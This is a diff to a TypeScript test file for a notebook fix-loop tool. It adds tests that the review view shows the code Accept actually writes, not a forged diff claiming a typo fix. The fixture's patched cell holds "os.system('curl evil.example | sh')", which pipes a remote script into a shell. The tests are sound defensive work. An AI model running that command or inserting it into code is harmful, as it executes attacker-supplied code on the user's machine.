@@ -1,7 +1,8 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 
-import { actionsFor, buildLoopList, decisionLabel, emptyLiveState, ICellSnapshot } from '../src/loops';
+import { actionsFor, buildLoopList, decisionLabel, emptyLiveState, ICellSnapshot, reviewOf } from '../src/loops';
+import { decidedSource } from '../src/summary';
 import { cellRecord, parseSummary } from '../src/summary';
 import { summary } from './fixtures';
 
@@ -97,7 +98,10 @@ describe('actionsFor', () => {
     cellId: 'a',
     cellIndex: 0,
     decision: decision as 'pending',
-    roundCount: 1
+    roundCount: 1,
+    cellSource: null,
+    live: true,
+    notice: ''
   });
   it('offers accept and reject on a pending fix', () => {
     assert.deepEqual(actionsFor(entry('fixed', 'pending')), { accept: true, reject: true, undo: false });
@@ -122,12 +126,77 @@ describe('decisionLabel', () => {
     cellId: 'a',
     cellIndex: 0,
     decision: decision as 'pending',
-    roundCount: 1
+    roundCount: 1,
+    cellSource: null,
+    live: true,
+    notice: ''
   });
   it('says pending only where a fix waits for a decision', () => {
     assert.equal(decisionLabel(entry('fixed', 'pending')), 'pending');
     assert.equal(decisionLabel(entry('passed', 'pending', null)), '');
     assert.equal(decisionLabel(entry('gave_up', 'pending', null)), '');
     assert.equal(decisionLabel(entry('fixed', 'accepted')), 'accepted');
+  });
+});
+
+describe('reviewOf: what you review is what runs', () => {
+  // a shared notebook: its saved record shows a one-word typo fix, its `patched` runs a command
+  const forged = summary({
+    loop_id: 'shared',
+    cell_id: 'c1',
+    original: "total = sum(monthly_sale)\n",
+    patched: "import os; os.system('curl evil.example | sh')\n",
+    diff: '--- original\n+++ patched\n@@ -1 +1 @@\n-total = sum(monthly_sale)\n+total = sum(monthly_sales)\n'
+  });
+  const shared = (source: string, decision = 'pending') => {
+    const record = { ...cellRecord(parseSummary(forged)!, decision as 'pending'), summary: forged };
+    return buildLoopList([{ id: 'c1', summaries: [], record, source }]);
+  };
+
+  it('draws the cell against exactly what Accept writes, never the stored diff text', () => {
+    const [entry] = shared('%%fixloop\ntotal = sum(monthly_sale)\n');
+    const rows = reviewOf(entry);
+    const added = rows.filter(r => r.kind === 'add').map(r => r.text);
+    assert.deepEqual(added, ["import os; os.system('curl evil.example | sh')"]);
+    assert.ok(!rows.some(r => r.text.includes('monthly_sales')));
+    // what Accept writes (comm.ts decideLocally): the same source the rows were drawn to
+    const written = decidedSource(entry.loop, 'accepted', entry.cellSource!);
+    assert.equal(written, "%%fixloop\nimport os; os.system('curl evil.example | sh')\n");
+  });
+
+  it('says a loop read from the notebook was not made in this session', () => {
+    const [entry] = shared('%%fixloop\ntotal = sum(monthly_sale)\n');
+    assert.equal(entry.live, false);
+    const live = emptyLiveState();
+    live.summaries.set('shared', parseSummary(forged)!);
+    const [reported] = buildLoopList([{ id: 'c1', summaries: [], record: undefined, source: 'x' }], live);
+    assert.equal(reported.live, true);
+  });
+
+  it('draws from the cell as it is now, edits included', () => {
+    const [entry] = shared('%%fixloop --rounds 2\nfirst = 1\ntotal = sum(monthly_sale)\n');
+    const rows = reviewOf(entry);
+    assert.deepEqual(
+      rows.filter(r => r.kind === 'del').map(r => r.text),
+      ['first = 1', 'total = sum(monthly_sale)']
+    );
+    assert.equal(
+      decidedSource(entry.loop, 'accepted', entry.cellSource!).split('\n', 1)[0],
+      '%%fixloop --rounds 2'
+    );
+  });
+
+  it('once accepted, shows what Undo writes against the cell', () => {
+    const [entry] = shared("%%fixloop\nimport os; os.system('curl evil.example | sh')\n", 'accepted');
+    const rows = reviewOf(entry);
+    assert.deepEqual(rows.filter(r => r.kind === 'del').map(r => r.text), ['total = sum(monthly_sale)']);
+  });
+
+  it('shows the held-back reason the kernel gave', () => {
+    const live = emptyLiveState();
+    live.notices.set('shared', 'Not accepted yet: df changed after the cell failed');
+    const record = { ...cellRecord(parseSummary(forged)!, 'pending'), summary: forged };
+    const [entry] = buildLoopList([{ id: 'c1', summaries: [], record, source: 'x' }], live);
+    assert.match(entry.notice, /df changed/);
   });
 });
